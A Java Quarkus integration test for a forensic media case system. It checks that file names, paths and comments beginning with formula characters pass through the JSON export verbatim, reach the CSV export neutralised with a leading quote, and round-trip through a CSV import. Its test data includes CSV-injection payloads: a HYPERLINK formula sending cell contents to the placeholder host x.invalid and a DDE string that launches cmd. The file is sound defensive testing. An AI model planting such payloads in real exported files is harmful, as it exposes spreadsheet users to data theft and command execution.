package org.vidcase.fuzz;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;

import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.path.json.JsonPath;
import io.restassured.response.Response;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;
import org.junit.jupiter.api.Test;
import org.vidcase.localstack.LocalStackTestResource;
import org.vidcase.testsupport.Api;
import org.vidcase.testsupport.CaseFixture;
import org.vidcase.testsupport.Jobs;
import org.vidcase.testsupport.MediaFixture;
import org.vidcase.testsupport.Tokens;

/**
 * Spreadsheet formula prefixes in values an export writes back: a file name, path or note that
 * begins with = + - @ is stored as given (the VICS import strips surrounding whitespace, so a tab or
 * CR in front is not kept); the VICS JSON export gives it verbatim (JSON is not a spreadsheet); the
 * CSV export neutralises it (OWASP: the cell is quoted and starts with a single quote), and
 * importing that CSV gives the names back as they were stored.
 */
@QuarkusTest
@QuarkusTestResource(value = LocalStackTestResource.class, restrictToAnnotatedClass = false)
class FormulaExportTest {

    private static final List<String> NAMES = List.of("=HYPERLINK(\"http://x.invalid/?\"&A1,\"open\")", "+1+1.jpg",
            "-2+3.jpg", "@SUM(A1).jpg", "\tcmd.jpg", "\rcmd.jpg");
    /** What the VICS import keeps of them: text stripped of surrounding whitespace. */
    private static final List<String> STORED = NAMES.stream().map(String::strip).distinct().toList();

    @Test
    void formulaPrefixesStayVerbatimInJsonAndAreNeutralisedInCsv() throws Exception {
        UUID caseId = CaseFixture.openCase("officer");
        UUID seizure = MediaFixture.seizure(caseId, "officer");
        List<String> md5s = new ArrayList<>();
        StringBuilder media = new StringBuilder();
        for (int i = 0; i < NAMES.size(); i++) {
            String md5 = String.format("%032x", System.nanoTime() + i);
            md5s.add(md5);
            media.append(i == 0 ? "" : ", ").append("{\"MD5\": \"").append(md5).append("\", \"Comments\": ")
                    .append(json(NAMES.get(i))).append(", \"MediaFiles\": [{\"FileName\": ").append(json(NAMES.get(i)))
                    .append(", \"FilePath\": \"=cmd|' /C calc'!A0\"}]}");
        }
        String vics = "{\"@odata.context\": \"http://github.com/VICSDATAMODEL/ProjectVic/DataModels/2.0.xml/US/$metadata#Cases\","
                + " \"value\": [{\"Media\": [" + media + "]}]}";
        String job = given().auth().oauth2(Tokens.of("officer")).contentType("application/json").body(vics)
                .post("/api/cases/" + caseId + "/seizures/" + seizure + "/imports").then().statusCode(202).extract().path("id");
        assertThat(Jobs.awaitEnd(job, "officer").getString("state")).isEqualTo("SUCCEEDED");
        // An uploaded file whose name and folder start like formulas, too.
        given().auth().oauth2(Tokens.of("officer")).contentType("application/octet-stream").body(MediaFixture.uniquePng())
                .queryParam("fileName", "@cmd.png").queryParam("path", "=folder")
                .post("/api/cases/" + caseId + "/seizures/" + seizure + "/media").then().statusCode(201);
        given().auth().oauth2(Tokens.of("officer")).contentType("application/octet-stream").body(MediaFixture.uniquePng())
                .queryParam("fileName", "\ttab.png").queryParam("path", "\rfolder")
                .post("/api/cases/" + caseId + "/seizures/" + seizure + "/media").then().statusCode(201);

        // JSON: verbatim.
        JsonPath exported = new JsonPath(Api.as("officer").get("/api/cases/" + caseId + "/export").then().statusCode(200)
                .extract().asString());
        List<String> jsonNames = exported.getList("value[0].Media.MediaFiles.flatten().FileName");
        assertThat(jsonNames).containsAll(STORED).contains("@cmd.png", "\ttab.png");
        assertThat(exported.<String>getList("value[0].Media.Comments")).containsAll(STORED);

        // CSV: quoted cells, formula starts behind a single quote.
        Response csv = given().auth().oauth2(Tokens.of("officer")).queryParam("format", "CSV")
                .get("/api/cases/" + caseId + "/export");
        assertThat(csv.statusCode()).isEqualTo(200);
        assertThat(csv.contentType()).startsWith("text/csv");
        assertThat(csv.header("Content-Disposition")).contains(".csv");
        String text = new String(csv.asByteArray(), StandardCharsets.UTF_8);
        assertThat(text).startsWith("\uFEFF\"MediaID\"");
        for (String name : STORED) {
            assertThat(text).contains("\"" + (name.startsWith("c") ? "" : "'") + name.replace("\"", "\"\"") + "\"");
        }
        assertThat(text).contains("\"'@cmd.png\"").contains("\"'=folder\"").contains("\"'=cmd|' /C calc'!A0\"")
                .contains("\"'\ttab.png\"").contains("\"'\rfolder\"");
        for (String cell : text.split("\",\"|\r\n\"|^\uFEFF\"")) {
            assertThat(cell).as("a cell").doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-")
                    .doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r");
        }

        // The CSV imported into another case gives the names as they were.
        UUID other = CaseFixture.openCase("officer");
        UUID otherSeizure = MediaFixture.seizure(other, "officer");
        String again = given().auth().oauth2(Tokens.of("officer")).contentType("text/csv").body(csv.asByteArray())
                .post("/api/cases/" + other + "/seizures/" + otherSeizure + "/imports").then().statusCode(202).extract().path("id");
        JsonPath imported = Jobs.awaitEnd(again, "officer");
        assertThat(imported.getString("state")).isEqualTo("SUCCEEDED");
        assertThat(imported.getLong("result.rejected")).isZero();
        List<String> names = Api.as("officer").get("/api/cases/" + other + "/media?size=100").then().statusCode(200)
                .extract().jsonPath().getList("locations.flatten().fileName");
        assertThat(names).containsAll(STORED).contains("@cmd.png", "\ttab.png");
        List<String> folders = Api.as("officer").get("/api/cases/" + other + "/media?size=100").then().statusCode(200)
                .extract().jsonPath().getList("locations.flatten().path");
        assertThat(folders).contains("=folder", "=cmd|' /C calc'!A0", "\rfolder");
    }

    private static String json(String text) {
        return '"' + BrokenExports.jsonText(text) + '"';
    }
}
